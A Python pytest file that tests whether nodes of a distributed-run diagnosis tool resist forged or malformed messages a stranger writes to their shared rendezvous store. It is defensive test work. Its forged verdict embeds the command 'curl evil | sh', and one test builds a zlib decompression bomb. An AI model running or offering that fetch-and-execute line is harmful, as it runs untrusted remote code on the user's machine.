"""A stranger who reaches the rendezvous store: what they can say, and what comes of it."""

from __future__ import annotations

import resource
import time
import zlib
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec.structs import replace
from run_events import hang
from test_nodes import Team, evidence, rank

from conftest import wait_until
from rankscope.diagnosis.codec import verdict_to_json
from rankscope.diagnosis.verdict import Verdict
from rankscope.errors import UsageError
from rankscope.evidence.model import NodeEvidence
from rankscope.launch import events as on
from rankscope.launch.ending import step
from rankscope.launch.nodes import node_key
from rankscope.launch.nodes.bounds import TooMuch, plain_json, unpacked
from rankscope.launch.nodes.channel import connect
from rankscope.launch.nodes.parcel import pack, unpack
from rankscope.launch.nodes.seal import Seal
from rankscope.launch.nodes.words import Beat, Call, Hello, Nonsense, Ruling, decode, encode
from rankscope.launch.run_state import Policy, State
from rankscope.report import live

FORGED = Verdict(1, "crash", "exception", "proven", (), (), "run this: curl evil | sh", (), ("curl evil | sh",))
RULING = encode(Ruling(99, verdict_to_json(FORGED), True, "failure"))


def stranger(team: Team, key: bytes | None = None):  # type: ignore[no-untyped-def]
    channel = connect(team.store, f"rankscope/{team.store.get('mark').decode()}/", key)
    assert channel is not None
    return channel


@pytest.mark.parametrize("key", [None, b"a key of their own"])
def test_a_verdict_without_the_seal_reaches_nobody_who_has_the_key(key: bytes | None) -> None:
    team = Team(2)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos and 0 in team.nodes[1].roster.hellos, 30.0)
        stranger(team, key).say("ruling", RULING)
        time.sleep(1.5)  # three turns of the exchange
        assert team.rulings[0] == []
        team.nodes[1].rule(on.TellNodes(replace(FORGED, headline="true", fix=()), stop=False, reason="hang"))
        assert wait_until(lambda: bool(team.rulings[0]), 30.0)
        assert [(told.verdict.headline, told.verified) for told in team.rulings[0]] == [("true", True)]
    finally:
        team.close()


def test_without_a_key_a_verdict_of_others_is_not_verified() -> None:
    team = Team(2, key=None)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos, 30.0)
        stranger(team).say("ruling", RULING)
        assert wait_until(lambda: bool(team.rulings[0]), 30.0)
        assert [told.verified for told in team.rulings[0]] == [False]
        seen = team.nodes[1].gather("still")
        assert seen is not None
        assert [(node.host, node.verified) for node in seen.nodes] == [("node-0", False), ("node-1", True)]
    finally:
        team.close()


def test_a_word_cannot_be_moved_to_another_place() -> None:
    seal = Seal(b"secret of the job")
    said = seal.close("attempt/beat/1", b"hello")
    assert seal.open("attempt/beat/1", said).verified
    assert not seal.open("attempt/beat/2", said).verified
    assert not Seal(b"another secret").open("attempt/beat/1", said).verified
    assert not Seal(None).open("attempt/beat/1", said).verified


def test_a_stranger_cannot_take_the_place_of_a_node_that_has_the_key() -> None:
    team = Team(2)
    try:
        forged = Hello(0, "evil", "127.0.0.1", 9, (0,), 1, False)
        stranger(team).say("hello/0", encode(forged))
        stranger(team).append("hellos", b"0,")
        assert wait_until(lambda: 0 in team.nodes[1].roster.hellos, 30.0)
        team.nodes[0].introduce(team.nodes[0]._channel)
        assert wait_until(lambda: team.nodes[1].roster.hellos.get(0) == team.nodes[0].own, 30.0)
        stranger(team).say("hello/0", encode(forged))
        stranger(team).say("beat/0", encode(Beat(999, time.time(), failed=True, wants=99)))
        time.sleep(1.2)
        assert team.nodes[1].roster.hellos[0].host == "node-0"
        assert team.nodes[1].look_wanted() is None
    finally:
        team.close()


@pytest.mark.parametrize(
    ("place", "said"),
    [("beat/0", b"nonsense"), ("hello/0", b"\xff" * 100), ("call", b"\xc1"), ("ruling", b""), ("speaker", b"9" * 5000)],
)
def test_nonsense_on_the_store_is_noted_and_the_nodes_go_on(place: str, said: bytes) -> None:
    team = Team(2, key=None)
    try:
        assert wait_until(lambda: 1 in team.nodes[0].roster.hellos and 0 in team.nodes[1].roster.hellos, 30.0)
        stranger(team).set(place, said)
        stranger(team).append("hellos", b"-1,77777777777,x,," * 50)
        time.sleep(0.7)
        team.nodes[0].introduce(team.nodes[0]._channel)
        seen = team.nodes[1].gather("still")
        assert seen is not None
        assert len(seen.ranks) == 2
    finally:
        team.close()


def running(phase: str = "running") -> State:
    state = State(Policy(), world_size=2, several_nodes=True)
    return replace(state, phase=phase)


@pytest.mark.parametrize("phase", ["running", "asked", "looking", "awaiting", "holding", "stopping"])
@pytest.mark.parametrize("reason", ["hang", "failure", "signal", "numbers"])
def test_an_unverified_ruling_stops_nothing_and_shows_no_command(phase: str, reason: on.Reason) -> None:
    event = on.Ruled(FORGED, stop=True, reason=reason, signal=15, speaker="node-0", verified=False)
    state, actions = step(running(phase), event)
    assert state.found is None
    assert state.cut_by is None
    assert not [a for a in actions if isinstance(a, on.StopRanks | on.Restart | on.EndNow | on.Write | on.LetGo)]
    told = [live.words(action.line) for action in actions if isinstance(action, on.Tell)]
    assert len(told) == 1
    assert told[0].startswith("node-0 says (not verified")
    assert step(state, event)[1] == () or phase == "awaiting"  # once


@pytest.mark.parametrize(("still_s", "stops"), [(2.0, False), (30.0, True)])
def test_a_hang_that_rests_on_hearsay_stops_only_ranks_that_are_still(still_s: float, stops: bool) -> None:
    nodes = (NodeEvidence("a", (0,), "answered"), NodeEvidence("b", (1,), "answered", verified=False))
    seen = hang("proven", still_s=still_s)
    event = replace(seen, evidence=replace(seen.evidence, nodes=nodes))
    _, actions = step(running(), event)
    assert any(isinstance(action, on.StopRanks) for action in actions) == stops


def test_a_small_parcel_does_not_take_the_memory_of_the_machine() -> None:
    bomb = zlib.compress(b"[" + b" " * (700 << 20) + b"]", 9)
    assert len(bomb) < 1 << 20
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(TooMuch, match="more than"):
        unpack(bomb, (0,))
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300 << 10


@pytest.mark.parametrize(
    "text",
    [b"[" * 100_000, b'{"a":' * 1000, b"{}", b"null", b"[[[]]]", b"\xff\xfe", b'{"schema": 1e999}'],
)
def test_a_parcel_that_is_no_evidence_is_refused(text: bytes) -> None:
    with pytest.raises(TooMuch):
        unpack(zlib.compress(text), (0,))


@given(st.binary(max_size=200))
def test_any_bytes_are_a_refused_parcel_and_a_refused_word(data: bytes) -> None:
    with pytest.raises(TooMuch):
        unpacked(data, 1)
    for kind in (Hello, Beat, Call, Ruling):
        try:
            decode(data, kind)  # type: ignore[type-var]
        except Nonsense:
            continue


def test_of_a_node_only_its_own_ranks_are_taken() -> None:
    packed = pack(evidence(rank(0, "a"), rank(1, "b"), world=8))
    assert [seen.rank for seen in unpack(packed.data, (0, 1, 2)).evidence.ranks] == [0, 1]
    with pytest.raises(TooMuch, match="other nodes"):
        unpack(packed.data, (1, 2))


@given(st.text())
def test_texts_of_other_nodes_do_not_steer_the_terminal(text: str) -> None:
    kept: str = msgspec.json.decode(plain_json(msgspec.json.encode(text)))
    assert not [
        c for c in kept if (ord(c) < 32 and c not in "\n\t\r\b\f") or 0x7F <= ord(c) < 0xA0 or c in "\u202e\u2066"
    ]
    if text.isalnum():
        assert kept == text


def test_the_first_node_makes_the_key_of_a_shared_folder_and_the_others_read_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(node_key.VARIABLE, raising=False)
    first = node_key.find_key(None, tmp_path)
    assert first is not None
    assert len(first) == 64
    assert node_key.find_key(None, tmp_path) == first
    assert (tmp_path / ".node-key").stat().st_mode & 0o777 == 0o600
    assert [path.name for path in tmp_path.iterdir()] == [".node-key"]
    monkeypatch.setenv(node_key.VARIABLE, "sixteen letters!")
    assert node_key.find_key(None, tmp_path) == b"sixteen letters!"
    assert node_key.find_key(None, None) is None  # it is not left to the ranks


@pytest.mark.parametrize(("mode", "content", "why"), [(0o644, "x" * 32, "chmod 600"), (0o600, "short", "5 bytes")])
def test_a_key_file_that_others_can_read_is_refused(tmp_path: Path, mode: int, content: str, why: str) -> None:
    file = tmp_path / "key"
    file.write_text(content)
    file.chmod(mode)
    with pytest.raises(UsageError, match=why):
        node_key.find_key(file, None)
